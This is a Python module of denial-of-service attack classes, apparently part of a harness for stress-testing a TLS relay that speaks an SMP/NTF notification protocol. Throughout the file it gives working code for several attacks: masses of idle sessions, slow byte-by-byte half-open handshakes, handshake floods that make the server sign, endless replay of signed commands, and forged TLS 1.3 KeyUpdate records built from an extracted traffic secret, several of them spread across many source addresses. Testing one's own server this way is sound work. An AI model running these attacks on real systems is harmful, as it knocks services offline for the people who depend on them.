"""Connections: idle, half-open, in floods; and sessions that ask, or have TLS work, without end."""

import asyncio
import socket
import tempfile
from abc import abstractmethod
from typing import ClassVar, Final

from cryptography.hazmat.primitives.ciphers.aead import AESGCM
from cryptography.hazmat.primitives.hashes import SHA384
from cryptography.hazmat.primitives.kdf.hkdf import HKDFExpand
from from_address import Connection, connect_from, open_tcp
from ntf_load import Command, sign

from attacks.base import ADDRESSES, MANY_ADDRESSES, Attack
from smp_bridge import ntf
from smp_bridge.handshake import HandshakeError
from smp_bridge.tls import SslTls, client_context

_FAILED: Final = (OSError, TimeoutError, HandshakeError)
_AT_ONCE: Final = 64
_CONNECTIONS: Final = 10_000
_AGAIN: Final = 0.5
_PLACING: Final = 600.0  # seconds; not waited for longer than `settle`


class _Many(Attack):
    """So many connections, each made as soon as there is a turn for it."""

    settle: ClassVar[float] = 60.0

    async def prepare(self) -> None:
        """Nothing: connections are what is measured."""
        self._turns = asyncio.Semaphore(_AT_ONCE)

    async def run(self) -> None:
        """Make them, and keep them."""
        count = self.plan.count(_CONNECTIONS)
        self._made = 0
        tasks = [asyncio.create_task(self._one(i)) for i in range(count)]
        await self.until(lambda: self._made >= count, _PLACING)
        self.in_place.set()
        await asyncio.gather(*tasks)

    @abstractmethod
    async def _one(self, i: int) -> None: ...


class Idle(_Many):
    """Sessions that ask for nothing."""

    about = "10,000 sessions of one address that ask for nothing"

    async def _one(self, i: int) -> None:
        async with self._turns:
            try:
                connection, _ = await connect_from(self.source(i), self.plan.target)
                self.count("sessions")
            except _FAILED:
                self.count("refused")
                return
            finally:
                self._made += 1
        try:
            await connection.receive()
        except _FAILED:
            self.count("closed again")


class IdleOfMany(Idle):
    """As many as there are addresses."""

    about = "10,000 sessions of as many addresses that ask for nothing"
    addresses: ClassVar[int] = ADDRESSES
    descriptors: ClassVar[int] = MANY_ADDRESSES


class HalfOpen(_Many):
    """TLS that is begun and goes on by a byte now and then; what is closed comes again."""

    about = "10,000 connections of one address that never end their handshake"

    async def prepare(self) -> None:
        """A ClientHello serves all."""
        await super().prepare()
        self._hello = _client_hello()

    async def _one(self, i: int) -> None:
        first = True
        while True:
            try:
                async with self._turns:
                    sock = await open_tcp(self.source(i), self.plan.target)
                    self.count("connections")
            except OSError:
                self.count("refused")
                sock = None
            self._made += first
            first = False
            if sock is not None:
                with sock:
                    await self._drip(sock)
            await asyncio.sleep(4 * _AGAIN)

    async def _drip(self, sock: socket.socket) -> None:
        loop = asyncio.get_running_loop()
        for k in range(len(self._hello) - 1):
            try:
                await loop.sock_sendall(sock, self._hello[k : k + 1])
                async with asyncio.timeout(5):
                    await loop.sock_recv(sock, 1)
                return
            except TimeoutError:
                continue
            except OSError:
                return


class HalfOpenOfMany(HalfOpen):
    """Of all addresses together there may be fewer than they want."""

    about = "10,000 connections of as many addresses that never end their handshake"
    addresses: ClassVar[int] = ADDRESSES
    descriptors: ClassVar[int] = MANY_ADDRESSES


class Flood(Attack):
    """Has the relay answer a ClientHello, which costs it a signature and the stranger nothing, and leaves."""

    about = "TLS handshakes of one address, as many as there can be, each given up after the server's part"
    settle: ClassVar[float] = 3.0

    async def prepare(self) -> None:
        """A ClientHello serves all."""
        self._hello = _client_hello()

    async def run(self) -> None:
        """Again and again."""
        self.in_place.set()  # the first moments are the worst
        await asyncio.gather(*(self._again(i) for i in range(self.plan.count(200))))

    async def _again(self, first: int) -> None:
        loop, i = asyncio.get_running_loop(), first
        while True:
            try:
                with await open_tcp(self.source(i), self.plan.target) as sock:
                    await loop.sock_sendall(sock, self._hello)
                    came = await loop.sock_recv(sock, 4096)
                    self.count("answered" if came else "closed")
            except OSError:
                self.count("refused")
            i += self.plan.count(200)
            await asyncio.sleep(0)


class FloodOfMany(Flood):
    """No address has more than one of them under way."""

    about = "the same of 10,000 addresses"
    addresses: ClassVar[int] = ADDRESSES
    descriptors: ClassVar[int] = MANY_ADDRESSES


class Commands(Attack):
    """Commands that cost a signature to check, each sent again and again as it is."""

    about = "TCHKs of 20 sessions of one address, without end"
    tokens: ClassVar[int] = 1
    _sessions: ClassVar[int] = 20
    _window: ClassVar[int] = 16

    async def prepare(self) -> None:
        """Sign one for each session."""
        [token] = self.plan.tokens[:1]
        self._connections = await self.sessions(self.plan.count(self._sessions))
        command = Command(ntf.TChk().encode(ntf.VERSIONS[1]), token.token_id, token.key)
        signed = sign(self._connections, [command] * len(self._connections))
        self._blocks = [blocks[0][0] for blocks in signed]

    async def run(self) -> None:
        """As fast as they are answered."""
        self.in_place.set()  # the first moments are the worst
        await asyncio.gather(*map(self._ask, self._connections, self._blocks))

    async def _ask(self, connection: Connection, block: bytes) -> None:
        try:
            for _ in range(self._window):
                connection[0].send(block)
            while True:
                await connection[0].receive()
                self.count("answers")
                connection[0].send(block)
        except _FAILED:
            self.count("closed")


class CommandsOfMany(Commands):
    """Each address has its own budget."""

    about = "TCHKs of 1,000 sessions of as many addresses, without end"
    addresses: ClassVar[int] = 1000
    descriptors: ClassVar[int] = MANY_ADDRESSES
    spends_all: ClassVar[bool] = True
    _sessions = 1000
    _window = 2


class KeyUpdates(Attack):
    """WB5: TLS 1.3 lets a peer ask for new keys as often as it likes, and has to be answered."""

    about = "TLS KeyUpdates of 20 connections, which ask for answers and read them"
    _connections: ClassVar[int] = 20
    _records: ClassVar[int] = 4000

    async def prepare(self) -> None:
        """Records that are sealed already. Some seconds; the connections stay half-open that long."""
        count = self.plan.count(self._connections)
        self._ready = [await self._secured() for _ in range(count)]

    async def run(self) -> None:
        """As fast as they are taken; then with new connections."""
        self.in_place.set()  # the first moments are the worst
        await asyncio.gather(*(self._again(*ready) for ready in self._ready))

    async def _secured(self) -> tuple[socket.socket, bytes]:
        """A socket with TLS on it, and all records that it will send."""
        loop = asyncio.get_running_loop()
        with tempfile.NamedTemporaryFile() as keys:
            context = client_context("ntf")
            context.keylog_filename = keys.name
            tls = SslTls(context)
            sock = await open_tcp(self.source(0), self.plan.target)
            while not tls.handshake():
                await loop.sock_sendall(sock, tls.output())
                tls.feed(await loop.sock_recv(sock, 65536))
            await loop.sock_sendall(sock, tls.output())
            lines = keys.read().decode().splitlines()
        [secret] = [line.split()[2] for line in lines if line.startswith("CLIENT_TRAFFIC_SECRET_0")]
        return sock, key_updates(bytes.fromhex(secret), self._records)

    async def _again(self, sock: socket.socket, records: bytes) -> None:
        loop = asyncio.get_running_loop()
        while True:
            reading = asyncio.create_task(self._read(sock))
            try:
                await loop.sock_sendall(sock, records)
                self.count("KeyUpdates", self._records)
            except OSError:
                self.count("closed")
            finally:
                reading.cancel()
                sock.close()
            try:
                sock, records = await self._secured()
            except OSError:
                self.count("refused")
                await asyncio.sleep(_AGAIN)

    async def _read(self, sock: socket.socket) -> None:
        loop = asyncio.get_running_loop()
        try:
            while await loop.sock_recv(sock, 65536):
                pass
        except OSError:
            pass


def key_updates(secret: bytes, count: int) -> bytes:
    """Records of KeyUpdates that ask for one in return (RFC 8446, sections 4.6.3, 5.2, 7.1 to 7.3).

    Under TLS_AES_256_GCM_SHA384, which OpenSSL prefers; under each key there is one, as nothing else was sent.
    """
    header = b"\x17\x03\x03" + (6 + 16).to_bytes(2)
    out = []
    for _ in range(count):
        key, iv = _expand(secret, b"key", 32), _expand(secret, b"iv", 12)
        out.append(header + AESGCM(key).encrypt(iv, bytes([24, 0, 0, 1, 1, 22]), header))
        secret = _expand(secret, b"traffic upd", 48)
    return b"".join(out)


def _expand(secret: bytes, label: bytes, length: int) -> bytes:
    name = b"tls13 " + label
    info = length.to_bytes(2) + bytes([len(name)]) + name + b"\0"
    return HKDFExpand(SHA384(), length, info).derive(secret)


def _client_hello() -> bytes:
    tls = SslTls(client_context("ntf"))
    tls.handshake()
    return tls.output()
